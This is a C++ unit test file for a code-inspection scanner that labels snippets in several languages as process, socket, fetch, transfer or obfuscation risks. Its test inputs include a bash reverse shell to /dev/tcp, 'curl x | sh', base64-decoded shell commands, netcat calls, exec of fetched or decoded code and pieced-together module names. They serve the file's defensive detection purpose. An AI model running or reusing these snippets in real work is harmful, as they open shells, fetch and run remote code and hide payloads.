// Code within code: command lines, text that is run, names that are put together.
#include <gtest/gtest.h>

#include "code_testing.h"

namespace shareguard::inspect {
namespace {

std::string FromPython(std::string_view code) { return RulesOf("python", code); }

TEST(EmbeddedCodeTest, CommandLines) {
  const std::string os = "import os\n";
  EXPECT_EQ(FromPython(os + "os.system('bash -i >& /dev/tcp/1.2.3.4/80 0>&1')"), "python-process shell-socket");
  EXPECT_EQ(FromPython(os + "os.system('curl x | sh')"), "python-process shell-fetch shell-fetched");
  EXPECT_EQ(FromPython(os + "os.system('echo aWQ= | base64 -d | sh')"),
            "decoded-to-shell python-process shell-encoding");
  EXPECT_EQ(FromPython("import subprocess\nsubprocess.run(['bash', '-c', 'nc x 1'])"), "python-process shell-netcat");
  EXPECT_EQ(FromPython("import subprocess\nsubprocess.run(['ls', '-l'], cwd='nc x')"), "python-process");
  EXPECT_EQ(RulesOf("r", "system('curl x | sh')"), "r-process shell-fetch shell-fetched");
  EXPECT_EQ(RulesOf("javascript", "require('child_process').spawn('bash', ['-c', 'nc x 1'])"),
            "javascript-process shell-netcat");
  EXPECT_EQ(RulesOf("c", "int main() { execlp(\"sh\", \"sh\", \"-c\", \"nc x 1\", 0); }"), "c-process shell-netcat");
}

TEST(EmbeddedCodeTest, CommandsInPieces) {
  const std::string os = "import os\n";
  EXPECT_EQ(FromPython(os + "os.system(f'scp {f} a:')"), "python-process shell-transfer");
  EXPECT_EQ(FromPython(os + "os.system('scp %s a:' % f)"), "python-process shell-transfer");
  EXPECT_EQ(FromPython("import subprocess\nsubprocess.run('scp x a:'.split())"), "python-process shell-transfer");
  EXPECT_EQ(FromPython("import subprocess, shlex\nsubprocess.run(shlex.split('scp x a:'))"),
            "python-process shell-transfer");
  EXPECT_EQ(FromPython(os + "c = 'scp x a:'\nos.system(c)"), "python-process shell-transfer");
  EXPECT_EQ(RulesOf("r", "system(paste('scp', f, 'a:'))"), "r-process shell-transfer");
  EXPECT_EQ(RulesOf("r", "system(sprintf('scp %s a:', f))"), "r-process shell-transfer");
  EXPECT_EQ(RulesOf("r", "system2('scp', c(f, 'a:'))"), "r-process shell-transfer");
  EXPECT_EQ(FromPython(os + "os.system(names['scp x'])\nos.system('ls ' + 'scp')"), "python-process");
}

TEST(EmbeddedCodeTest, TextThatIsRun) {
  EXPECT_EQ(FromPython("exec('import boto3')"), "python-transfer");
  EXPECT_EQ(FromPython("exec('''\nimport json\nimport boto3\n''')"), "python-transfer");
  EXPECT_EQ(FromPython("exec('import socket\\ns = socket.socket()')"), "python-socket");
  EXPECT_EQ(FromPython("c = 'import boto3'\nexec(c)"), "python-transfer");
  EXPECT_EQ(FromPython("eval(\"__import__('boto3')\")"), "python-transfer");
  EXPECT_EQ(FromPython("exec('import ' + 'boto3')"), "python-transfer");
  EXPECT_EQ(FromPython("exec('x = 1')\nprint('import boto3')\nf('import boto3')"), "");
  EXPECT_EQ(FromPython("exec('x = 1;" + std::string(5000, ' ') + "import boto3')"), "python-transfer");
  EXPECT_EQ(RulesOf("r", "eval(parse(text = 'socketConnection(1)'))"), "r-socket");
  EXPECT_EQ(RulesOf("julia", "eval(Meta.parse(\"using Sockets\"))"), "julia-socket");
  EXPECT_EQ(RulesOf("shell", "python3 -c 'import boto3'\nRscript -e 'library(aws.s3)'"), "python-transfer r-socket");
  EXPECT_EQ(RulesOf("shell", "python3 - <<E\nimport boto3\nE\n"), "python-transfer");
  EXPECT_EQ(RulesOf("shell", "python3 run.py <<E\nimport boto3\nE\n"), "");
}

TEST(EmbeddedCodeTest, MoreThanIsReadIsTold) {
  std::string code;
  for (int i = 0; i < 17000; ++i) code += "exec('x')\n";
  const auto found = FindingsOf("python", code);
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].id, "code.blob");
  EXPECT_EQ(found[0].severity, policy::Severity::kMedium);
}

TEST(EmbeddedCodeTest, FetchedAndRun) {
  EXPECT_EQ(FromPython("import requests\nexec(requests.get(u).text)"), "python-http run-fetched");
  EXPECT_EQ(FromPython("from urllib.request import urlopen\nc = urlopen(u).read()\nexec(c)"),
            "python-http run-fetched");
  EXPECT_EQ(FromPython("import requests\nx = requests.get(u).json()\neval(y)"), "python-http");
  EXPECT_EQ(RulesOf("r", "source('https://a.example/x.R')"), "run-fetched");
  EXPECT_EQ(RulesOf("r", "source('x.R')\nread.csv('https://a.example/x')"), "");
  EXPECT_EQ(RulesOf("javascript", "eval(await (await fetch(u)).text())"), "javascript-http run-fetched");
  EXPECT_EQ(RulesOf("javascript", "fetch(u).then(r => r.json())"), "javascript-http");
}

TEST(EmbeddedCodeTest, DecodedAndRun) {
  const std::string decode = "import base64\n";
  EXPECT_EQ(FromPython(decode + "def d(s):\n  return base64.b64decode(s)\nexec(d(x))"), "python-encoding run-decoded");
  EXPECT_EQ(FromPython(decode + "def d(s):\n  return base64.b64decode(s)\nprint(d(x))\nexec(y)"), "python-encoding");
  EXPECT_EQ(FromPython(decode + "list(map(exec, [base64.b64decode(x)]))"), "python-encoding run-decoded");
  EXPECT_EQ(FromPython("exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115]))"), "char-codes");
  EXPECT_EQ(FromPython("exec('so tropmi'[::-1])"), "run-decoded");
  EXPECT_EQ(FromPython("import gzip\nexec(gzip.open(f).read())"), "run-decoded");
  EXPECT_EQ(RulesOf("javascript", "eval(Buffer.from(x, 'base64').toString())"), "run-decoded");
  EXPECT_EQ(RulesOf("javascript", "x = Buffer.from(y, 'utf8'); setTimeout(function () { atob(x) }, 1)"),
            "javascript-encoding");
  EXPECT_EQ(RulesOf("javascript", "setTimeout(atob(x), 1)"), "javascript-encoding run-decoded");
  EXPECT_EQ(RulesOf("javascript", "const d = s => atob(s); eval(d(x))"), "javascript-encoding run-decoded");
  EXPECT_EQ(RulesOf("javascript", "import('data:text/javascript;base64,YQ==')"), "run-decoded");
  EXPECT_EQ(RulesOf("r", "x |> base64enc::base64decode() |> rawToChar() |> parse(text = _) |> eval()"),
            "r-encoding run-decoded");
  EXPECT_EQ(RulesOf("julia", "x |> base64decode |> String |> Meta.parse |> eval"), "julia-encoding run-decoded");
}

TEST(EmbeddedCodeTest, NamesThatArePutTogether) {
  EXPECT_EQ(FromPython("m = 'boto3'\n__import__(m)"), "python-transfer");
  EXPECT_EQ(FromPython("b = 'boto'\n__import__(f'{b}3')"), "built-name python-transfer");
  EXPECT_EQ(FromPython("__import__(''.join(['bo', 'to3']))"), "built-name python-transfer");
  EXPECT_EQ(FromPython("__import__('bXoXto3'.replace('X', ''))"), "built-name");
  EXPECT_EQ(FromPython("P = 'mine'\nimport importlib\nimportlib.import_module(P + '.plugins')\n"
                       "importlib.import_module('mine.%s' % name)\n__import__('a' + name)"),
            "");
  EXPECT_EQ(FromPython("getattr(self, 'visit_' + 'Name')(node)"), "");
  EXPECT_EQ(RulesOf("javascript", "const m = 'ws'; require(m); module.require('net')"), "javascript-socket");
  EXPECT_EQ(RulesOf("javascript", "require\n('ws')"), "javascript-socket");
  EXPECT_EQ(RulesOf("javascript", "import { createRequire } from 'module'\nconst r = createRequire(u)\nr('ws')"),
            "javascript-socket");
  EXPECT_EQ(RulesOf("c", "int main() { dlsym(h, \"socket\"); syscall(SYS_socket, 2, 1, 0); }"), "c-loading c-socket");
}

TEST(EmbeddedCodeTest, NamesOfModulesThatAreTakenWhole) {
  EXPECT_EQ(FromPython("from socket import *\ns = socket(AF_INET, SOCK_STREAM)"), "python-socket");
  EXPECT_EQ(FromPython("from math import *\ns = socket(1)"), "");
  EXPECT_EQ(RulesOf("java", "import java.net.*;\nclass A { void f() { new Socket(h, 1); } }"), "java-socket");
  EXPECT_EQ(RulesOf("java", "import java.util.*;\nclass A { Socket s; List<String> l; }"), "");
  EXPECT_EQ(RulesOf("java", "class A { void f() { Runtime r = Runtime.getRuntime(); r.exec(c); } }"), "java-process");
  EXPECT_EQ(RulesOf("r", "do.call(socketConnection, list('a', 1))\nlapply('a', socketConnection)"), "r-socket");
  EXPECT_EQ(RulesOf("r", "write.table(x, 'clipboard', sep = '\\t')"), "r-clipboard");
}

}  // namespace
}  // namespace shareguard::inspect
